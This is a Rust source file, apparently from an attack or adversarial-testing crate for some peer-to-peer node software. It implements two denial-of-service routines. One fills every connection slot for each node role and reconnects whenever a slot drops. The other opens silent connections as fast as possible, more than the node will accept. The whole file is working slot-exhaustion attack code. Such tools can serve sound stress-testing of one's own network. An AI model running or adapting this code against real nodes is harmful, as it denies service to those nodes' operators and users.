//! Callers that hold every place of every role and say nothing, and come again at once when they
//! lose one.

use std::collections::VecDeque;
use std::sync::Arc;
use std::thread;
use std::time::Duration;

use wire::hello::Role;

use crate::Attack;
use crate::line::Line;

/// The places that a node has, by role.
const PLACES: [(Role, usize); 4] =
    [(Role::Peer, 64), (Role::Wallet, 128), (Role::Directory, 96), (Role::Operator, 8)];

/// Threads that connect and say nothing, and the connections that each keeps: together more than a
/// node lets in.
const SILENT_THREADS: usize = 8;
const SILENT_EACH: usize = 100;

/// How often somebody comes for one place.
const PAUSE: Duration = Duration::from_millis(500);

pub(crate) fn begin(attack: &Arc<Attack>) -> anyhow::Result<()> {
    for (role, count) in PLACES {
        let attack = Arc::clone(attack);
        thread::spawn(move || {
            let mut lines: Vec<Option<Line>> = (0..count).map(|_| None).collect();
            while !attack.is_over() {
                for line in &mut lines {
                    if line.as_mut().is_none_or(|line| !line.is_open()) {
                        *line = Line::greet(&attack.target, role).ok();
                        attack.count();
                    }
                }
                thread::sleep(PAUSE);
            }
        });
    }
    Ok(())
}

/// Connects as fast as it can, says nothing, and closes nothing but its oldest connections.
pub(crate) fn begin_silent(attack: &Arc<Attack>) -> anyhow::Result<()> {
    for _ in 0..SILENT_THREADS {
        let attack = Arc::clone(attack);
        thread::spawn(move || {
            let mut lines = VecDeque::new();
            while !attack.is_over() {
                if let Ok(line) = Line::open(&attack.target) {
                    lines.push_back(line);
                    attack.count();
                }
                if lines.len() > SILENT_EACH {
                    lines.pop_front();
                }
            }
        });
    }
    Ok(())
}
